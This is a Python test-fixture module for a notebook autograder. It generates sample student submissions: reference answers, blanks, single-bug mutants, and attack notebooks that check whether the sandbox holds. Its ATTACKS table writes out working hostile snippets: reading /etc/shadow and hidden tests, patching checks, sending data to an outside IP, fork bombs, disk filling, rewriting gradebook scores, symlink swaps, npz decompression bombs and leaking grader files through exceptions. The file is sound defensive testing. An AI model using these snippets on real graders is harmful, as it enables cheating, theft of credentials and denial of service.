"""Sample submissions for the demo and the end-to-end tests: honest, buggy and hostile.

For each homework: the **reference** (the instructor's source notebook: every answer is the reference
solution), the **blank** release, **mutants** (one plausible bug in one answer cell each, so they
lose exactly that task's points) and **attacks** (the reference with one answer cell turned into an
attempt on the grader: reading the hidden tests or the reference from disk, patching the checks,
IPython hooks, stack frames, the network, a fork bomb, filling the disk, killing the process, writing
its own score into the gradebook; and on the trusted side's reading of what the sandbox leaves:
symbolic links and oversized ``.npz`` outputs, a forged progress log, a full I/O folder, the grader's
files raised in an exception). An attack must cost the attacked task and nothing else, and put the
submission on the review list.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass

import nbformat

from .cells import Mutant
from .registry import find, homeworks

__all__ = ["ATTACKED_CELL", "ATTACKS", "MUTANTS", "Mutant", "Sample", "samples"]


MUTANTS: dict[str, list[Mutant]] = {h.key: h.sample_mutants for h in homeworks().values()}


# An attack is code put at the top of one answer cell of the reference (it runs when the cell runs).
ATTACKS: dict[str, str] = {
    "attack_read_files": (
        "import os\n"
        "_loot = {}\n"
        "for _path in ('../../../source', '../../../gradebook.db', '/work/main/solutions',\n"
        "              '/work/main/autograder/checks', '/root', '/home', '/etc/shadow'):\n"
        "    try:\n"
        "        if os.path.isdir(_path):\n"
        "            _loot[_path] = os.listdir(_path)\n"
        "        else:\n"
        "            _loot[_path] = open(_path, 'rb').read()\n"
        "    except OSError:\n"
        "        pass\n"
    ),
    "attack_patch_checks": (
        "import autograder.checks as _checks\n"
        "_checks.compare = lambda *args, **kwargs: None\n"
        "_checks.Check.verdict = lambda self, *args, **kwargs: _checks.passed()\n"
    ),
    "attack_ipython_hook": (
        "_ip = get_ipython()\n"
        "_ip.ast_transformers.clear()\n"
        "_ip.events.register('post_run_cell', lambda result: None)\n"
    ),
    "attack_stack_frames": (
        "import sys\n"
        "def _expected():\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        if 'expected' in frame.f_locals:\n"
        "            return frame.f_locals['expected']\n"
        "        frame = frame.f_back\n"
    ),
    "attack_network": (
        "import socket\n"
        "try:\n"
        "    socket.create_connection(('10.1.2.3', 80), timeout=2).sendall(b'my answers')\n"
        "except OSError:\n"
        "    pass\n"
    ),
    "attack_fork_bomb": (
        "import os, time\n"
        "while True:\n"
        "    try:\n"
        "        if os.fork() == 0:  # each child holds a process slot for a while\n"
        "            time.sleep(5)\n"
        "            os._exit(0)\n"
        "    except OSError:  # the process limit: the bomb is defused\n"
        "        break\n"
    ),
    "attack_fill_disk": (
        "_block = b'x' * (1 << 20)\n"
        "try:\n"
        "    with open('/tmp/fill', 'wb') as _f:\n"
        "        while True:\n"
        "            _f.write(_block)\n"
        "except OSError:\n"
        "    pass\n"
    ),
    "attack_exit": "import os\nos._exit(0)\n",
    "attack_write_score": (
        "import sqlite3\n"
        "for _db in ('../../../gradebook.db', '/srv/nbgrader/gradebook.db', 'gradebook.db'):\n"
        "    try:  # where nbgrader keeps it, seen from autograded/<student>/<assignment>\n"
        "        _con = sqlite3.connect(_db)\n"
        "        _con.execute('update grade set auto_score = max_score')\n"
        "        _con.commit()\n"
        "    except sqlite3.Error:\n"
        "        pass\n"
    ),
    # on the trusted side's reading of what the sandbox leaves (issue #12): each must cost the
    # attacked task and nothing else, and never make the grader follow a link, block or balloon
    "attack_link_outputs": (
        "import atexit, os\n"
        "def _swap_outputs():  # after the probe wrote them: links to host files, for root to read\n"
        "    folder = '/io/outputs/@TASK@'\n"
        "    for name in (os.listdir(folder) if os.path.isdir(folder) else []):\n"
        "        os.unlink(os.path.join(folder, name))\n"
        "        os.symlink('/etc/shadow', os.path.join(folder, name))\n"
        "    for name in ('job.json', 'inputs', 'gradebook.db'):\n"
        "        try:\n"
        "            os.symlink('/etc/passwd', '/io/' + name)\n"
        "        except OSError:\n"
        "            pass\n"
        "atexit.register(_swap_outputs)\n"
    ),
    "attack_npz_bomb": (
        "import atexit, os, struct, zipfile\n"
        "def _bomb():  # outputs that promise 2 GiB arrays in a few kilobytes\n"
        "    folder = '/io/outputs/@TASK@'\n"
        "    header = \"{'descr': '<f8', 'fortran_order': False, 'shape': (268435456,), }\"\n"
        "    header += ' ' * (118 - len(header)) + '\\n'\n"
        "    npy = b'\\x93NUMPY\\x01\\x00' + struct.pack('<H', len(header)) + header.encode()\n"
        "    for name in (os.listdir(folder) if os.path.isdir(folder) else []):\n"
        "        with zipfile.ZipFile(os.path.join(folder, name), 'w', zipfile.ZIP_DEFLATED) as z:\n"
        "            z.writestr('result.npy', npy + bytes(1 << 22))\n"
        "atexit.register(_bomb)\n"
    ),
    "attack_forged_progress": (
        "with open('/io/progress.log', 'a') as _log:  # 'start' an earlier cell again, then die\n"
        "    _log.write('cell provided_code start\\n')\n"
        "import os\n"
        "os._exit(1)\n"
    ),
    "attack_fill_io": (
        "try:  # the I/O folder the probe writes its outputs to\n"
        "    with open('/io/fill', 'wb') as _f:\n"
        "        while True:\n"
        "            _f.write(bytes(1 << 20))\n"
        "except OSError:\n"
        "    pass\n"
    ),
    "attack_leak_checks": (
        "_text = ''\n"
        "import os\n"
        "for _root, _dirs, _files in os.walk('/grader'):  # whatever of the grader is readable\n"
        "    for _name in _files:\n"
        "        try:\n"
        "            _text += open(os.path.join(_root, _name)).read()\n"
        "        except OSError:\n"
        "            pass\n"
        "raise RuntimeError(_text[-3000:] or 'nothing to read')  # into the feedback, it hopes\n"
    ),
}

# the answer cell each homework's attacks go into (a task that no other task's answer calls)
ATTACKED_CELL = {h.key: h.attacked_cell for h in homeworks().values()}


@dataclass(frozen=True)
class Sample:
    student: str
    notebook: nbformat.NotebookNode
    expected: str  # "full", "zero", or the task that loses its points


def _source(homework: str, lang: str = "en") -> nbformat.NotebookNode:
    """The instructor's notebook of edition ``lang``: the reference answers."""
    return nbformat.read(find(homework).edition_notebook(lang), as_version=4)


def _cell(nb, grade_id: str):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return cell
    raise KeyError(f"no cell {grade_id}")


def mutant_notebook(homework: str, mutant: Mutant, lang: str = "en") -> nbformat.NotebookNode:
    nb = copy.deepcopy(_source(homework, lang))
    cell = _cell(nb, mutant.cell)
    if mutant.old not in cell.source:
        raise ValueError(f"{mutant.student}: {mutant.old!r} is not in the answer {mutant.cell}")
    cell.source = cell.source.replace(mutant.old, mutant.new, 1)
    return nb


def attack_notebook(homework: str, attack: str, lang: str = "en") -> nbformat.NotebookNode:
    nb = copy.deepcopy(_source(homework, lang))
    cell = _cell(nb, ATTACKED_CELL[homework])
    code = ATTACKS[attack].replace("@TASK@", ATTACKED_CELL[homework])
    cell.source = code + "\n" + cell.source
    return nb


def samples(homework: str, release: nbformat.NotebookNode, lang: str = "en") -> list[Sample]:
    """Every sample submission of ``homework`` in edition ``lang``; ``release`` is the student
    version (the blank)."""
    out = [
        Sample("reference", _source(homework, lang), "full"),
        Sample("blank", copy.deepcopy(release), "zero"),
    ]
    out += [
        Sample(m.student, mutant_notebook(homework, m, lang), m.cell)
        for m in MUTANTS.get(homework, [])
    ]
    out += [
        Sample(name, attack_notebook(homework, name, lang), ATTACKED_CELL[homework])
        for name in ATTACKS
    ]
    return out
